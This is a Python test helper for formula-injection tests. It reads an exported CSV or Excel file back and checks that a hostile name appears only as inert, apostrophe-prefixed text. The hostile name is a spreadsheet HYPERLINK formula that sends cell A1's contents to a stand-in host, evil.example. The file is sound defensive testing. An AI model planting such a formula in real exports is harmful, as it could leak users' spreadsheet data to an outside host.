"""Reading an exported file back, as a spreadsheet would, for the formula-injection tests."""

import csv
import io

from openpyxl import load_workbook

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'


def cells(response) -> list[tuple]:
    """Every cell of the download as (value, data_type); CSV cells are all text ("s")."""
    content = response.content if hasattr(response, "content") else b"".join(response.streaming_content)
    if response["Content-Type"].startswith("text/csv"):
        assert content.startswith(b"\xef\xbb\xbf"), "CSV starts with the UTF-8 byte-order mark"
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
        return [(value, "s") for row in rows for value in row]
    sheet = load_workbook(io.BytesIO(content)).active
    return [(c.value, c.data_type) for row in sheet.iter_rows() for c in row]


def assert_neutralised(response, text: str = HOSTILE_NAME) -> None:
    """The text is in the file only as inert text ('=…), never as a live formula."""
    assert response.status_code == 200
    found = cells(response)
    assert ("'" + text, "s") in found, found[:40]
    assert not any(value == text or data_type == "f" for value, data_type in found)
